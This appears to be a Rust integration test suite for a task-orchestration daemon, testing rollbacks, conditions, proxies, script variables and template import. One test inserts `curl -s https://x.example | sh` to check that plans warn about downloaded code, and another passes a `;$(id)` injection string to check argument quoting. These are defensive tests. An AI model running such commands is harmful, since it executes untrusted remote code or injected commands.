//! Steps that depend on each other, on a real daemon: conditions, handlers, rollbacks, forced hosts, proxies, and what scripts
//! are told.

use std::collections::BTreeMap;
use std::path::Path;

use serde_json::{Value, json};

use crate::world::{ALICE, World, wait_for};

/// A world with hosts on this machine and one template.
fn world(hosts: &str, template: &str) -> World {
    let mut world = World::new(&[], None);
    world.write_etc("inventory/hosts.toml", hosts);
    world.write_etc("templates/flow.toml", &format!("id = 70\nname = \"flow\"\ntitle = \"t\"\n{template}"));
    world.start();
    world
}

/// Returns hosts of this machine.
fn local(names: &[&str]) -> String {
    names.iter().map(|name| format!("[host.{name}]\nconnection = \"local\"\n")).collect()
}

/// Runs a task of root's to its end.
fn run(world: &World, name: &str, task: &Value) -> (u64, Value) {
    world.drop_file("ready", &format!("{name}.json"), task.to_string().as_bytes(), 0);
    let id = world.task_of(name);
    (id, world.record(id))
}

/// Returns the steps of a host with their outcomes.
fn taken(record: &Value, host: &str) -> Vec<String> {
    let steps = record["results"][host].as_array().unwrap().iter();
    steps.map(|step| format!("{} {}", step["step"].as_str().unwrap(), step["outcome"].as_str().unwrap())).collect()
}

fn log(world: &World, id: u64, host: &str, step: &str) -> String {
    std::fs::read_to_string(world.state().join(format!("runs/{id}/output/{host}/{step}.log"))).unwrap_or_default()
}

/// Reads what `env` printed.
fn variables(text: &str) -> BTreeMap<&str, &str> {
    text.lines().filter_map(|line| line.split_once('=')).collect()
}

/// Four steps that write into a journal; the third fails on hosts named in BAD.
fn four_steps(journal: &Path, more: &str) -> String {
    let step = |name: &str, script: &str, more: &str| {
        format!("[[step]]\nname = \"{name}\"\nscript = '''\n{script}\n'''\n{more}\n")
    };
    let says = |word: &str| format!("echo \"$SPOOLGATE_HOST {word}\" >>{}", journal.display());
    let undo = |name: &str, more: &str| {
        let script = format!(
            "{}; echo $SPOOLGATE_FAILED_STEP $SPOOLGATE_FAILED_CODE; echo \"$SPOOLGATE_FAILED_RESULT\"{more}",
            says(&format!("undo-{name}"))
        );
        format!("[step.rollback]\nscript = '''\n{script}\n'''\n")
    };
    let fails = format!("{}\ncase \" $BAD \" in *\" $SPOOLGATE_HOST \"*) exit 3;; esac", says("three"));
    let handler = format!("on_failure = \"rollback\"\n[step.handler]\nscript = '''{}'''\n", says("handled"));
    [
        "[[param]]\nname = \"BAD\"\ndefault = \"nobody\"\n[[param]]\nname = \"WORSE\"\ndefault = \"nobody\"\n"
            .to_owned(),
        step("one", &says("one"), &undo("one", "")),
        step("two", &says("two"), &undo("two", "\n[ \"$WORSE\" != \"$SPOOLGATE_HOST\" ]")),
        step("three", &fails, &handler),
        step("four", &says("four"), more),
    ]
    .concat()
}

#[test]
fn what_failed_on_one_host_is_undone_there_and_its_siblings_go_on() {
    let dir = tempfile::tempdir().unwrap();
    let journal = dir.path().join("journal");
    let world = world(&local(&["h1", "h2", "h3"]), &four_steps(&journal, ""));
    let task = json!({"task_name": "t", "temp_id": "flow", "hosts": {"1": ["h1", "h2", "h3"]}, "args": {"BAD": "h2"}});
    let (id, record) = run(&world, "undo", &task);
    assert_eq!(record["outcome"], "rolled_back");
    assert_eq!(record["outcomes"], json!({"h1": "ok", "h2": "rolled_back", "h3": "ok"}));
    let want =
        ["one ok", "two ok", "three failed", "four skipped", "three.handler ok", "two.rollback ok", "one.rollback ok"];
    assert_eq!(taken(&record, "h2"), want);
    assert_eq!(taken(&record, "h1"), ["one ok", "two ok", "three ok", "four ok"]);
    let said = std::fs::read_to_string(&journal).unwrap();
    let of_h2: Vec<&str> = said.lines().filter_map(|line| line.strip_prefix("h2 ")).collect();
    assert_eq!(of_h2, ["one", "two", "three", "handled", "undo-two", "undo-one"]);
    let told = log(&world, id, "h2", "two.rollback");
    let (first, result) = told.trim().split_once('\n').unwrap();
    assert_eq!(first, "three 3");
    let result: Value = serde_json::from_str(result).unwrap();
    assert_eq!(
        (&result["step"], &result["exit_code"], &result["outcome"]),
        (&json!("three"), &json!(3), &json!("failed"))
    );
    let watch = world.run(0, &["wait", &id.to_string()]);
    assert_eq!(watch.code, 8, "{watch:?}");
    // What stands on undone steps does not go on without them, and nothing is undone twice.
    assert_eq!(world.run(0, &["retry", &id.to_string(), "--from", "two.rollback"]).code, 6);
    // A retry of what was rolled back does the undone steps again.
    world.run(0, &["retry", &id.to_string()]).ok();
    wait_for("the second end", || {
        (world.try_record(id)?["acts"].as_array()?.iter().filter(|act| act["act"] == "closed").count() == 2)
            .then_some(())
    });
    let said = std::fs::read_to_string(&journal).unwrap();
    assert_eq!(said.lines().filter(|line| *line == "h2 one").count(), 2);
    assert_eq!(said.lines().filter(|line| *line == "h1 one").count(), 1);
}

#[test]
fn a_rollback_that_fails_has_a_word_of_its_own_and_the_next_group_does_not_begin() {
    let dir = tempfile::tempdir().unwrap();
    let journal = dir.path().join("journal");
    let world = world(
        &local(&["h1", "h2"]),
        &four_steps(
            &journal,
            "[[step]]\nname = \"later\"\ngroup = 2\nscript = \"true\"\n[[group]]\nnumber = 2\nhosts_of = 1\n",
        ),
    );
    let taken_name =
        json!({"task_name": "t", "temp_id": "flow", "hosts": {"1": ["h1"]}, "env": {"BAD": "h1"}}).to_string();
    world.drop_file("ready", "taken.json", taken_name.as_bytes(), 0);
    let why = wait_for("the refusal", || world.why("taken"));
    assert!(why.to_string().contains("another name: it is a parameter"), "{why}");
    let args = json!({"BAD": "h1 h2", "WORSE": "h2"});
    let task = json!({"task_name": "t", "temp_id": "flow", "hosts": {"1": ["h1", "h2"]}, "args": args});
    let (_, record) = run(&world, "worse", &task);
    assert_eq!(record["outcome"], "rollback_failed");
    assert_eq!(record["outcomes"], json!({"h1": "rolled_back", "h2": "rollback_failed"}));
    assert!(taken(&record, "h2").contains(&"two.rollback failed".to_owned()));
    assert!(!taken(&record, "h2").iter().any(|step| step.starts_with("one.rollback")), "{record}");
    assert_eq!(record["results"]["h1"].as_array().unwrap().last().unwrap()["step"], "later");
    assert!(taken(&record, "h1").contains(&"later skipped".to_owned()));
}

#[test]
fn conditions_choose_hosts_before_and_steps_while_a_task_runs() {
    let hosts = "[host.web1]\nconnection = \"local\"\nvars = { tier = \"web\", environment = \"prod\" }\n\
                 [host.db1]\nconnection = \"local\"\nvars = { tier = \"db\", environment = \"test\" }\n";
    let template = "[[param]]\nname = \"CODE\"\ntype = \"int\"\ndefault = 0\n\
        [[step]]\nname = \"check\"\nscript = \"exit $CODE\"\non_failure = \"continue\"\n\
        [[step]]\nname = \"web-only\"\nscript = \"true\"\nwhen = \"host.vars.tier == 'web'\"\n\
        [[step]]\nname = \"repair\"\nscript = \"true\"\nwhen = \"steps.check.code == 4 and host.environment == 'prod'\"\n\
        [[step]]\nname = \"ask\"\nscript = \"true\"\ntrigger = \"manual\"\nwhen = \"steps.repair.outcome == 'failed'\"\n";
    let world = world(hosts, template);
    let task = |code: u32| json!({"task_name": "t", "temp_id": "flow", "hosts": {"1": ["web1", "db1"]}, "args": {"CODE": code.to_string()}});
    let (id, record) = run(&world, "zero", &task(0));
    assert_eq!(record["outcome"], "ok");
    assert_eq!(taken(&record, "web1"), ["check ok", "web-only ok", "repair skipped", "ask skipped"]);
    assert_eq!(taken(&record, "db1"), ["check ok", "web-only skipped", "repair skipped", "ask skipped"]);
    assert_eq!(record["results"]["db1"][1]["reason"], "its condition does not hold here");
    let plan = world.run(0, &["plan", &id.to_string()]).ok();
    assert!(plan.contains("host.vars.tier == 'web'\n") && plan.contains("    not on db1\n"), "{plan}");
    let (_, record) = run(&world, "four", &task(4));
    assert_eq!(taken(&record, "web1"), ["check failed", "web-only ok", "repair ok", "ask skipped"]);
    assert_eq!(record["outcome"], "failed");
    // A name that is not there is no quiet no, before and while it runs.
    world.write_etc("templates/flow.toml", "id = 70\nname = \"flow\"\ntitle = \"t\"\n[[step]]\nname = \"a\"\nscript = \"true\"\nwhen = \"host.vars.rack == 'b'\"\n");
    let refused = json!({"task_name": "t", "temp_id": "flow", "hosts": {"1": ["web1"]}}).to_string();
    world.drop_file("ready", "rack.json", refused.as_bytes(), 0);
    let why = wait_for("the refusal", || world.why("rack"));
    assert!(why.to_string().contains("has no answer on web1"), "{why}");
    world.write_etc("templates/flow.toml", "id = 70\nname = \"flow\"\ntitle = \"t\"\n[[step]]\nname = \"a\"\nscript = \"true\"\n[[step]]\nname = \"b\"\nscript = \"true\"\nwhen = \"steps.nobody.code == 0\"\n");
    let (_, record) = run(&world, "nobody", &json!({"task_name": "t", "temp_id": "flow", "hosts": {"1": ["web1"]}}));
    assert_eq!(taken(&record, "web1"), ["a ok", "b failed"]);
}

/// Seed 003's inventory variables, on a host of this machine.
const ZDOPS: &str = "[all:vars]\nZDOPS_SYSTEM_ENV=test\n[nginx]\nweb1 ansible_connection=local ansible_host=192.0.2.50 ZDOPS_LOCATION=aliyun\n\
    [nginx:vars]\nZDOPS_APP=nginx\n[bbs_php:children]\nnginx\n[bbs_php:vars]\nZDOPS_CLUSTER=bbs_php\n\
    [gfanbbs:children]\nbbs_php\n[gfanbbs:vars]\nZDOPS_PROJECT=gfanbbs\n";

/// A world with seed 003's inventory, a template for ported scripts, and a callback.
fn ported_world() -> World {
    let params = ["APPVER", "APPCONFVER", "DeployType", "SavePath", "ServiceName", "DeployDir"];
    let params: String = params.iter().map(|name| format!("[[param]]\nname = \"{name}\"\n")).collect();
    let template = format!(
        "env_prefix = \"ZDOPS\"\n{params}[[step]]\nname = \"first\"\nscript = \"exit 5\"\nargs = [\"a b\", \"c\"]\non_failure = \"continue\"\n\
         [[step]]\nname = \"env\"\nscript = \"env\"\n"
    );
    let mut world = World::new(&[], None);
    world.write_etc("inventory/hosts.toml", "");
    world.write_etc("inventory/zdops.ini", ZDOPS);
    world.write_etc("templates/flow.toml", &format!("id = 70\nname = \"flow\"\ntitle = \"t\"\n{template}"));
    let port = 20_000 + u16::try_from(std::process::id() % 10_000).unwrap();
    world.write_etc("spoolgate.toml", &format!("group = \"users\"\n[ssh]\nagent = false\n[http]\nlisten = [\"127.0.0.1:{port}\"]\ncallback = \"http://127.0.0.1:{port}\"\n"));
    world.start();
    world
}

#[test]
fn ported_scripts_find_their_variables_and_what_is_not_known_is_not_set() {
    let world = ported_world();
    let args = json!({"APPVER": "1.2", "DeployType": "app", "SavePath": "/srv/ops", "ServiceName": "nginx", "DeployDir": "/srv/www"});
    let (id, record) =
        run(&world, "zdops", &json!({"task_name": "部署", "temp_id": "flow", "hosts": {"1": ["web1"]}, "args": args}));
    assert_eq!(record["outcome"], "failed", "the first step fails on purpose");
    let said = log(&world, id, "web1", "env");
    let set = variables(&said);
    let number = id.to_string();
    let want = [
        ("ZDOPS_APP", "nginx"),
        ("ZDOPS_CLUSTER", "bbs_php"),
        ("ZDOPS_PROJECT", "gfanbbs"),
        ("ZDOPS_APPVER", "1.2"),
        ("ZDOPS_DeployType", "app"),
        ("ZDOPS_SavePath", "/srv/ops"),
        ("ZDOPS_JobID", &number),
        ("ZDOPS_ServiceName", "nginx"),
        ("ZDOPS_DeployDir", "/srv/www"),
        ("ZDOPS_HOSTNAME", "web1"),
        ("ZDOPS_HOSTIP", "192.0.2.50"),
        ("ZDOPS_SYSTEM_ENV", "test"),
        ("ZDOPS_LOCATION", "aliyun"),
        ("ZDOPS_GROUPTYPE", "app"),
        ("ZDOPS_GROUPNAME", "nginx"),
        ("ZDOPS_PrevJobName", "first"),
        ("ZDOPS_PrevJobAlias", "first"),
        ("ZDOPS_PrevJobCode", "5"),
        ("ZDOPS_PrevJobArgv", "a b c"),
        ("SPOOLGATE_TASK", &number),
        ("SPOOLGATE_TASK_NAME", "部署"),
        ("SPOOLGATE_TEMPLATE", "flow"),
        ("SPOOLGATE_HOST", "web1"),
        ("SPOOLGATE_ADDRESS", "192.0.2.50"),
        ("SPOOLGATE_GROUP", "1"),
        ("SPOOLGATE_BATCH", "1"),
        ("SPOOLGATE_STEP", "env"),
        ("SPOOLGATE_ATTEMPT", "1"),
        ("SPOOLGATE_APP", "nginx"),
        ("SPOOLGATE_CLUSTER", "bbs_php"),
        ("SPOOLGATE_PROJECT", "gfanbbs"),
        ("SPOOLGATE_ENVIRONMENT", "test"),
        ("SPOOLGATE_LOCATION", "aliyun"),
        ("SPOOLGATE_VERSION", "1.2"),
        ("SPOOLGATE_PREVIOUS_STEP", "first"),
        ("SPOOLGATE_PREVIOUS_CODE", "5"),
        ("SPOOLGATE_PREVIOUS_ARGV", r#"["a b","c"]"#),
    ];
    for (name, value) in want {
        assert_eq!(set.get(name), Some(&value), "{name} in\n{said}");
    }
    for name in ["ZDOPS_CallBack", "ZDOPS_Token", "ZDOPS_JobAPI"] {
        assert!(set.get(name).is_some_and(|value| !value.is_empty()), "{name} in\n{said}");
    }
    for name in [
        "ZDOPS_APPCONFVER",
        "ZDOPS_GitScheme",
        "ZDOPS_GitHost",
        "ZDOPS_GitProject",
        "ZDOPS_GitToken",
        "SPOOLGATE_FAILED_STEP",
    ] {
        assert!(!set.contains_key(name), "{name} in\n{said}");
    }
}

#[test]
fn a_forced_host_runs_once_between_two_rounds_of_the_tasks_hosts() {
    let dir = tempfile::tempdir().unwrap();
    let journal = dir.path().join("journal");
    let step = |name: &str, group: u32, more: &str| {
        format!(
            "[[step]]\nname = \"{name}\"\ngroup = {group}\nscript = 'echo \"{name} $SPOOLGATE_HOST\" >>{}'\n{more}",
            journal.display()
        )
    };
    let template = [
        step("out", 1, ""),
        step("switch", 2, "host = \"lb\"\n"),
        step("in", 3, ""),
        "[[group]]\nnumber = 3\nhosts_of = 1\n".to_owned(),
    ];
    let world = world(&local(&["h1", "h2", "lb"]), &template.concat());
    // CODO's tasks name hosts for every group; what is forced is forced.
    let (_, record) =
        run(&world, "forced", &json!({"task_name": "t", "temp_id": "flow", "hosts": "{1: 'h1,h2', 2: 'h1,h2'}"}));
    assert_eq!(record["outcome"], "ok");
    let said = std::fs::read_to_string(&journal).unwrap();
    let mut lines: Vec<&str> = said.lines().collect();
    lines[..2].sort_unstable();
    lines[3..].sort_unstable();
    assert_eq!(lines, ["out h1", "out h2", "switch lb", "in h1", "in h2"]);
    let proxied = json!({"task_name": "t", "temp_id": "flow", "proxy": "h1", "hosts": {"1": ["h2"]}}).to_string();
    world.drop_file("ready", "proxied.json", proxied.as_bytes(), 0);
    let why = wait_for("the refusal", || world.why("proxied"));
    assert!(why.to_string().contains("the template says where its groups run"), "{why}");
}

#[test]
fn a_proxy_gets_the_hosts_addresses_and_names_in_one_order_and_answers_for_their_rights() {
    let hosts = "[host.proxy]\nconnection = \"local\"\nvars = { environment = \"test\" }\n[host.b]\naddress = \"10.9.0.2\"\ntags = [\"web\"]\nvars = { environment = \"prod\" }\n\
                 [host.a]\naddress = \"10.9.0.3\"\ntags = [\"web\"]\nvars = { environment = \"prod\" }\n";
    let world = world(hosts, "[[step]]\nname = \"a\"\nscript = \"echo $SERVER_IP; echo $SERVER_HOST\"\n");
    let task = json!({"task_name": "自定义任务-代理", "temp_id": "flow", "proxy": "proxy", "hosts": {"1": "tag:web"}});
    let (id, record) = run(&world, "proxied", &task);
    assert_eq!(record["outcome"], "ok");
    assert_eq!(record["results"].as_object().unwrap().keys().collect::<Vec<_>>(), ["proxy"]);
    assert_eq!(log(&world, id, "proxy", "a"), "10.9.0.3,10.9.0.2\na,b\n");
    let plan = world.run(0, &["plan", &id.to_string()]).ok();
    assert!(plan.contains("2 host(s): a, b") && plan.contains("that its script reaches by itself"), "{plan}");
    // Who may not touch the hosts may not do so through a proxy.
    world.write_etc("policy.toml", "[[submit]]\nwho = [\"uid-61001\", \"root\"]\ntemplates = [\"*\"]\ninto = [\"new\"]\nenvironments = [\"test\"]\n");
    let direct = json!({"task_name": "t", "temp_id": "flow", "hosts": {"1": ["proxy"]}});
    world.drop_file("new", "direct.json", direct.to_string().as_bytes(), ALICE);
    world.task_of("direct");
    world.drop_file("new", "sly.json", task.to_string().as_bytes(), ALICE);
    let why = wait_for("the refusal", || world.why("sly"));
    assert!(why.to_string().contains("lets uid-61001 submit"), "{why}");
}

#[test]
fn codos_arguments_are_words_and_flow_id_is_the_tasks_number() {
    let template = "other_params = true\n[[step]]\nname = \"a\"\nscript = 'for a in \"$@\"; do echo \"<$a>\"; done'\nargs = \"VERSION --x=VERSION FLOW_ID pub_FLOW_ID.json ENV\"\n";
    let world = world(&local(&["h"]), template);
    let args = json!({"VERSION": " a b;$(id)'\" "});
    let (id, record) =
        run(&world, "tokens", &json!({"task_name": "t", "temp_id": "flow", "hosts": {"1": ["h"]}, "args": args}));
    assert_eq!(record["outcome"], "ok");
    let want = format!("<a b;$(id)'\">\n<--x=VERSION>\n<{id}>\n<pub_{id}.json>\n<ENV>\n");
    assert_eq!(log(&world, id, "h", "a"), want);
    let plan = world.run(0, &["plan", &id.to_string()]).ok();
    assert!(plan.contains("parameter VERSION holds the character ;"), "{plan}");
}

#[test]
fn a_plan_says_what_changed_since_the_last_run_of_its_template() {
    let world = world(
        &local(&["h1", "h2"]),
        "[[param]]\nname = \"V\"\ndefault = \"1\"\n[[step]]\nname = \"a\"\nscript = '''\necho one\necho two\n'''\n",
    );
    let task =
        |v: &str, host: &str| json!({"task_name": "t", "temp_id": "flow", "hosts": {"1": [host]}, "args": {"V": v}});
    let (id, _) = run(&world, "first", &task("1", "h1"));
    world.write_etc("templates/flow.toml", "id = 70\nname = \"flow\"\ntitle = \"t\"\n[[param]]\nname = \"V\"\ndefault = \"1\"\n[[step]]\nname = \"a\"\nscript = '''\necho one\ncurl -s https://x.example | sh\n'''\n");
    let file = world.etc().join("next.json");
    std::fs::write(&file, task("2", "h2").to_string()).unwrap();
    let plan = world.run(0, &["plan", file.to_str().unwrap()]).ok();
    for want in [
        &format!("task {id}, the last run of flow"),
        "/env/V: 1 became 2",
        "      - echo two",
        "      + curl -s https://x.example | sh",
        "runs what it downloads",
    ] {
        assert!(plan.contains(want), "{want} in\n{plan}");
    }
    let json: Value = serde_json::from_str(&world.run(0, &["--json", "plan", file.to_str().unwrap()]).ok()).unwrap();
    assert_eq!(json["since"]["task"], id);
}

#[test]
fn templates_are_listed_shown_checked_and_made_of_codos() {
    let world =
        world(&local(&["h"]), "[[step]]\nname = \"a\"\nscript = \"true\"\n[step.rollback]\nscript = \"undo it\"\n");
    assert!(world.run(0, &["template", "ls"]).ok().contains("    70  flow"));
    let shown = world.run(0, &["template", "show", "flow"]).ok();
    assert!(shown.contains("undoes a") && shown.contains("| undo it"), "{shown}");
    assert_eq!(world.run(0, &["template", "show", "no"]).code, 3);
    let folder = world.etc().join("templates");
    let codo = json!({"code": 0, "temp_name": "示例模板", "temp_id": 88, "data": [
        {"group": 1, "level": 1, "command_name": "打印", "command": "printf '%s|'", "args": "VERSION FLOW_ID", "trigger": "order", "exec_user": ""}]});
    let file = world.etc().join("codo.json");
    std::fs::write(&file, codo.to_string()).unwrap();
    let said = world.run(0, &["template", "import", file.to_str().unwrap(), "--into", folder.to_str().unwrap()]).ok();
    let made = folder.join("示例模板.toml");
    assert_eq!(said.trim(), made.to_str().unwrap());
    assert_eq!(
        world.run(0, &["template", "import", file.to_str().unwrap(), "--into", folder.to_str().unwrap()]).code,
        7,
        "nothing is replaced"
    );
    world.run(0, &["template", "check", made.to_str().unwrap()]).ok();
    world.run(0, &["template", "check"]).ok();
    let (id, record) = run(
        &world,
        "ported",
        &json!({"task_name": "t", "temp_id": 88, "hosts": "{1: 'h'}", "args": "{'VERSION': 'a b'}"}),
    );
    assert_eq!(record["outcome"], "ok", "{record}");
    assert_eq!(log(&world, id, "h", "打印"), format!("a b|{id}|"));
    std::fs::write(&made, "id = 1\n").unwrap();
    let wrong = world.run(0, &["template", "check", made.to_str().unwrap()]);
    assert!(wrong.code == 5 && wrong.err.contains("found no name"), "{wrong:?}");
}

#[test]
fn equal_levels_run_in_file_order_and_each_trigger_waits_for_its_own() {
    let step = |name: &str, more: &str| format!("[[step]]\nname = \"{name}\"\nlevel = 5\nscript = \"true\"\n{more}");
    let template = [
        step("one", ""),
        step("two", ""),
        step("asks", "trigger = \"manual\"\n"),
        step("timed", "trigger = \"timed\"\n"),
        step("last", ""),
    ];
    let world = world(&local(&["h"]), &template.concat());
    let task = json!({"task_name": "t", "temp_id": "flow", "hosts": {"1": ["h"]}}).to_string();
    world.drop_file("ready", "mixed.json", task.as_bytes(), 0);
    let id = world.task_of("mixed");
    let begun = || -> Vec<String> {
        let events = world.events(id);
        let started = events.iter().filter(|event| event["event"] == "step_started");
        started.map(|event| event["step"].as_str().unwrap().to_owned()).collect()
    };
    let ended = |step: &str| {
        wait_for(&format!("the end of {step}"), || {
            world.events(id).iter().any(|event| event["event"] == "step_ended" && event["step"] == step).then_some(())
        });
    };
    ended("two");
    // Only what waits is released; without a time a timed step waits for a person too (CODO's year 2038).
    let early = world.run(0, &["release", &id.to_string(), "timed"]);
    assert_eq!(early.code, 6, "{early:?}");
    assert_eq!(begun(), ["one", "two"]);
    world.run(0, &["release", &id.to_string(), "asks", "--reason", "looks fine"]).ok();
    ended("asks");
    assert_eq!(begun(), ["one", "two", "asks"]);
    world.run(0, &["release", &id.to_string(), "timed"]).ok();
    let record = world.record(id);
    assert_eq!(record["outcome"], "ok");
    assert_eq!(begun(), ["one", "two", "asks", "timed", "last"]);
    let released = record["acts"].as_array().unwrap().iter().find(|act| act["act"] == "steps_released").unwrap();
    assert_eq!((&released["by"]["user"], &released["detail"]), (&json!("root"), &json!("asks on h: looks fine")));
}

#[test]
fn a_list_of_hosts_takes_no_percentages_and_filters_choose_each_host_once() {
    let mut world = World::new(&[], None);
    world.write_etc("inventory/hosts.toml", "");
    let inventory = format!(
        "{ZDOPS}[nginx2]\nweb2 ansible_connection=local\nweb1\n[nginx2:vars]\nZDOPS_APP=nginx2\n[bbs_php:children]\nnginx2\n"
    );
    world.write_etc("inventory/zdops.ini", &inventory);
    world.start();
    let task = |hosts: Value, batches: Value| {
        json!({"task_name": "t", "script": "true", "hosts": {"1": hosts}, "batches": batches}).to_string()
    };
    let percent = json!(["50%", "50%"]);
    world.drop_file("ready", "listed.json", task(json!(["web1", "web2"]), percent.clone()).as_bytes(), 0);
    let why = wait_for("the refusal", || world.why("listed"));
    assert!(why.to_string().contains("percentages of a list of hosts"), "{why}");
    world.drop_file("ready", "sum.json", task(json!("project:gfanbbs"), json!(["50%", "40%"])).as_bytes(), 0);
    let why = wait_for("the refusal", || world.why("sum"));
    assert!(why.to_string().contains("100 percent together"), "{why}");
    for (name, filter) in
        [("project", "project:gfanbbs"), ("cluster", "cluster:bbs_php"), ("apps", "app:nginx, app:nginx2")]
    {
        world.drop_file("ready", &format!("{name}.json"), task(json!(filter), percent.clone()).as_bytes(), 0);
        let id = world.task_of(name);
        let record = world.record(id);
        assert_eq!(record["outcome"], "ok");
        assert_eq!(record["outcomes"], json!({"web1": "ok", "web2": "ok"}), "{filter}");
        let plan: Value =
            serde_json::from_slice(&std::fs::read(world.state().join(format!("runs/{id}/plan.json"))).unwrap())
                .unwrap();
        assert_eq!(plan["groups"][0]["batches"], json!([1, 1]), "{filter}");
    }
    // By numbers a list can be cut.
    world.drop_file("ready", "counts.json", task(json!(["web1", "web2"]), json!([1, 1])).as_bytes(), 0);
    assert_eq!(world.record(world.task_of("counts"))["outcome"], "ok");
}
